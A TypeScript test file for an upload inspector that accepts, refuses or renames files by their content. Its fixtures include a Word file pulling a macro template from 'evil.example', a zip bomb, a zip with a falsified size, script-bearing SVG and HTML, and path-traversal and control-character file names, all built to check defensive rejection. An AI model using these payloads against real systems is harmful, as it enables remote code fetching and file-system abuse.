import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { Readable } from 'node:stream';
import { describe, expect, test } from 'vitest';
import { env } from '@/lib/core/env';
import { Invalid } from '@/lib/core/errors';
import { inspectFile } from '@/lib/core/file-inspection/inspect';
import { dropStaged, stageFile } from '@/lib/core/storage';
import {
  aDocx,
  anEncryptedDocx,
  anOfficeFile,
  anOldDoc,
  aPdf,
  aPng,
  aProgram,
  aZip,
  aZipBomb,
} from '../../support/files';

async function inspect(bytes: Buffer, name: string) {
  const staged = await stageFile(Readable.from([bytes]), 25_000_000);
  try {
    return await inspectFile(staged, name);
  } finally {
    await dropStaged(staged);
  }
}

async function reasonOf(bytes: Buffer | Promise<Buffer>, name: string): Promise<string> {
  const outcome = await inspect(await bytes, name).catch((error: unknown) => error);
  if (!(outcome instanceof Invalid)) throw new Error(`not refused: ${JSON.stringify(outcome)}`);
  return outcome.reason;
}

const manyEntries = () => aZip(Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`word/${i}.xml`, ''])));
const remoteTemplate = () =>
  aDocx({
    'word/_rels/settings.xml.rels':
      '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
  });
const withLink = () =>
  aDocx({
    'word/_rels/document.xml.rels':
      '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.iom.int" TargetMode="External"/></Relationships>',
  });

/** The directory says 10 bytes; the data unpack to more. */
async function aLyingZip(): Promise<Buffer> {
  const zip = await aDocx({ 'word/big.xml': 'x'.repeat(50_000) });
  const name = Buffer.from('word/big.xml');
  const entry = zip.lastIndexOf(name) - 46;
  zip.writeUInt32LE(10, entry + 24);
  return zip;
}

describe('what is accepted, by its bytes', () => {
  test.each([
    ['informe.pdf', aPdf, 'pdf'],
    ['informe.docx', aDocx, 'docx'],
    ['con enlace.docx', withLink, 'docx'],
    ['cuadro.xlsx', () => anOfficeFile('xl/workbook.xml'), 'xlsx'],
    ['charla.pptx', () => anOfficeFile('ppt/presentation.xml'), 'pptx'],
    ['mapa.png', async () => aPng, 'png'],
    [
      'FOTO.JPEG',
      async () =>
        Buffer.concat([
          Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
          Buffer.alloc(64),
          Buffer.from('ffd9', 'hex'),
        ]),
      'jpg',
    ],
  ] as const)('%s', async (name, bytes, type) => {
    expect((await inspect(await (bytes as () => Promise<Buffer>)(), name)).type).toBe(type);
  });

  test('a name without extension gets the one of its content', async () => {
    expect((await inspect(await aPdf(), 'informe')).fileName).toBe('informe.pdf');
  });
});

describe('what is refused, and why', () => {
  test.each([
    ['a program named as a PDF', async () => aProgram, 'informe.pdf', 'file.type-not-accepted'],
    ['a PDF named as a program', () => aPdf(), 'informe.exe', 'file.name-and-content-differ'],
    ['a PDF named as a Word file', () => aPdf(), 'informe.docx', 'file.name-and-content-differ'],
    ['a Word file with macros', () => aDocx({ 'word/vbaProject.bin': 'x' }), 'informe.docx', 'file.has-macros'],
    [
      'a Word file that declares macros',
      () =>
        aDocx({
          '[Content_Types].xml':
            '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        }),
      'informe.docx',
      'file.has-macros',
    ],
    ['a Word file named .docm', () => aDocx(), 'informe.docm', 'file.has-macros'],
    ['a PDF with a password', () => aPdf('x', { userPassword: 'secreto' }), 'informe.pdf', 'file.is-encrypted'],
    [
      'a PDF protected against copying',
      () => aPdf('x', { ownerPassword: 'secreto' }),
      'informe.pdf',
      'file.is-encrypted',
    ],
    ['a Word file with a password', async () => anEncryptedDocx, 'informe.docx', 'file.is-encrypted'],
    ['a Word file of before 2007', async () => anOldDoc, 'informe.doc', 'file.is-old-office'],
    ['a zip bomb', aZipBomb, 'informe.docx', 'file.is-bomb'],
    ['ten thousand parts', manyEntries, 'informe.docx', 'file.is-bomb'],
    ['a size that lies', aLyingZip, 'informe.docx', 'file.is-damaged'],
    ['a Word file cut in half', async () => (await aDocx()).subarray(0, 300), 'informe.docx', 'file.is-damaged'],
    ['a PDF cut to its head', async () => (await aPdf()).subarray(0, 40), 'informe.pdf', 'file.is-damaged'],
    ['a template on another server', remoteTemplate, 'informe.docx', 'file.fetches-remote'],
    ['a plain zip', () => aZip({ 'a.txt': 'a' }), 'informe.zip', 'file.type-not-accepted'],
    [
      'a picture with script',
      async () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
      'mapa.svg',
      'file.type-not-accepted',
    ],
    ['a page', async () => Buffer.from('<!doctype html><script>1</script>'), 'informe.pdf', 'file.type-not-accepted'],
    ['words', async () => Buffer.from('hola'), 'notas.txt', 'file.type-not-accepted'],
  ] as const)('%s', async (_title, bytes, name, reason) => {
    expect(await reasonOf(bytes(), name)).toBe(reason);
  });

  test('nothing at all, and more than the limit, leave no temporary file', async () => {
    await expect(stageFile(Readable.from([]), 10)).rejects.toMatchObject({ reason: 'file.empty' });
    await expect(stageFile(Readable.from([Buffer.alloc(11_000_000)]), 10_000_000)).rejects.toMatchObject({
      reason: 'file.too-large',
      detail: { limit: 10 },
    });
    expect(await readdir(path.join(env().DATA_DIR, 'files', 'incoming'))).toEqual([]);
  });
});

describe('names', () => {
  test.each([
    ['../../etc/passwd.pdf', 'passwd.pdf'],
    ['C:\\informes\\2026.pdf', '2026.pdf'],
    ['informe\u202Efdp.pdf', 'informefdp.pdf'],
    ['con\r\nsalto "comillas".pdf', 'consalto _comillas_.pdf'],
    ['informacio\u0301n.pdf', 'información.pdf'],
    [`${'á'.repeat(400)}.pdf`, `${'á'.repeat(146)}.pdf`],
    ['...', 'documento.pdf'],
  ])('%j is kept as %j', async (given, kept) => {
    expect((await inspect(await aPdf(), given)).fileName).toBe(kept);
  });
});
